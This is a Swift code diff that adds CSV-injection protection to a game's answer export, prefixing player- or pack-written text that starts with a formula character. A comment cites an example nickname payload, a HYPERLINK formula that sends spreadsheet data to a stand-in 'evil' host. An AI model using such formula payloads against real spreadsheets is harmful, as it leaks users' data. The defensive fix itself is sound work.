@@ -70,11 +70,18 @@ package enum AnswerExport {
     }
 
     /// RFC 4180: CRLF line ends, a header line, and fields quoted when they hold a comma, a
-    /// quote, CR or LF (quotes doubled). Empty fields for absent values.
+    /// quote, CR or LF (quotes doubled). Empty fields for absent values. Text a player or a pack
+    /// wrote is defused first (`csvText`), so a spreadsheet never runs it as a formula.
     package static func csv(_ rows: [AnswerRow]) -> String {
         var out = columns.joined(separator: ",") + "\r\n"
         for row in rows {
-            out += cells(row).map { $0.map(csvField) ?? "" }.joined(separator: ",") + "\r\n"
+            out += cells(row).map { cell in
+                switch cell {
+                case .text(let text?): csvField(csvText(text))
+                case .text(nil): ""
+                case .value(let value): value
+                }
+            }.joined(separator: ",") + "\r\n"
         }
         return out
     }
@@ -100,10 +107,33 @@ package enum AnswerExport {
         return out + "]\n"
     }
 
-    static func cells(_ row: AnswerRow) -> [String?] {
-        [row.game, String(row.round), String(row.question), row.questionText, row.player, row.team, row.answer,
-         row.correct.map { $0 ? "true" : "false" }, row.outcome, String(row.responseMs), String(row.points), String(row.runningTotal),
-         row.complete ? "true" : "false"]
+    /// A CSV cell: text from the game (names, answers, questions), or a number or flag the export made.
+    enum Cell: Equatable {
+        case text(String?)
+        case value(String)
+    }
+
+    static func cells(_ row: AnswerRow) -> [Cell] {
+        [.text(row.game), .value(String(row.round)), .value(String(row.question)), .text(row.questionText), .text(row.player),
+         .text(row.team), .text(row.answer), .value(row.correct.map { $0 ? "true" : "false" } ?? ""), .text(row.outcome),
+         .value(String(row.responseMs)), .value(String(row.points)), .value(String(row.runningTotal)),
+         .value(row.complete ? "true" : "false")]
+    }
+
+    /// Text that starts with `=`, `+`, `-`, `@`, tab or CR gets a leading `'`, which spreadsheets
+    /// show as text instead of running it as a formula (OWASP "CSV Injection"): a nickname such as
+    /// `=HYPERLINK("http://evil/?"&A1,"win")` reaches the host's spreadsheet. A plain number (a
+    /// typed answer of -40) is left as it is: it cannot be a formula.
+    static func csvText(_ text: String) -> String {
+        guard let first = text.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first), !isPlainNumber(text) else { return text }
+        return "'" + text
+    }
+
+    /// Digits with an optional sign and decimal point, as a number answer is written: nothing a
+    /// spreadsheet evaluates.
+    private static func isPlainNumber(_ text: String) -> Bool {
+        text.utf8.allSatisfy { ($0 >= 0x30 && $0 <= 0x39) || $0 == UInt8(ascii: ".") || $0 == UInt8(ascii: "-") || $0 == UInt8(ascii: "+") }
+            && Double(text) != nil
     }
 
     static func csvField(_ text: String) -> String {
